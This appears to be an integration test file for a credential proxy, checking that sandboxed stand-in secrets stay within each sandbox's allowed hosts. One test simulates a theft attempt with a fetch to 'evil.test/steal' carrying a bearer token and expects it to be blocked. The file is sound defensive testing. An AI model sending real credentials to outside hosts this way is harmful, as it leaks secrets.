import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { eventually, startWorld, type World } from '../helpers/harness/index.js';
import type { NetworkEvent, SandboxInfo } from '../../src/sdk/types.js';

/**
 * Issue #13 item 10, through the real daemon with `proxy.requireAuth=false`: leaving out
 * Proxy-Authorization must not let a sandbox's stand-in escape that sandbox's `allow_out`, nor be
 * honoured next to another sandbox's stand-in. An honoured one is recorded under its sandbox.
 */
const REAL = 'sk-REAL-unattributed-value-0001';
let world: World;
let confined: SandboxInfo;
let other: SandboxInfo;

before(async () => {
  world = await startWorld({ flags: { 'proxy.requireAuth': false, 'log.level': 'warn' } });
  const created = await world.daemon.api('POST', '/secrets', { name: 'wide', value: REAL, auth: { type: 'bearer' }, hosts: ['api.example.test', 'evil.test'] });
  assert.equal(created.status, 201);
  confined = (await world.daemon.api('POST', '/sandboxes', { name: 'confined', secrets: { T: 'wide' }, network: { allow_out: ['api.example.test'] } })).json;
  other = (await world.daemon.api('POST', '/sandboxes', { name: 'other', secrets: { T: 'wide' } })).json;
});

after(() => world.close());

const sawReal = (): boolean => world.upstream.seen.some((s) => JSON.stringify(s.headers).includes(REAL));

test("without Proxy-Authorization a stand-in still obeys its own sandbox's allow_out", async () => {
  const res = await world.fetchAs(undefined, 'https://evil.test/steal', { headers: { authorization: `Bearer ${confined.env.T}` } });
  assert.equal(res.status, 403);
  assert.equal(res.headers['x-credproxy-reason'], 'host_not_allowed');
  assert.ok(!sawReal(), 'the real value went nowhere');
});

test('without Proxy-Authorization stand-ins of two sandboxes are refused together', async () => {
  const res = await world.fetchAs(undefined, 'https://api.example.test/x', {
    headers: { authorization: `Bearer ${confined.env.T}`, 'x-other': `Bearer ${other.env.T}` },
  });
  assert.equal(res.status, 403);
  assert.equal(res.headers['x-credproxy-reason'], 'stand_in_wrong_sandbox');
  assert.ok(!sawReal());
});

test('an honoured unattributed stand-in is injected and recorded under its own sandbox', async () => {
  const res = await world.fetchAs(undefined, 'https://api.example.test/allowed', { headers: { authorization: `Bearer ${confined.env.T}` } });
  assert.equal(res.status, 200);
  assert.ok(sawReal(), 'injected for a host its sandbox allows');
  assert.ok(!res.text.includes(REAL));
  const row = await eventually('the request row', async () => {
    const { json } = await world.daemon.api('GET', `/sandboxes/${confined.id}/network`);
    return json.data.find((e: NetworkEvent) => e.kind === 'request' && e.path === '/allowed');
  });
  assert.equal(row.status, 200);
  assert.ok(row.secret_id);
});
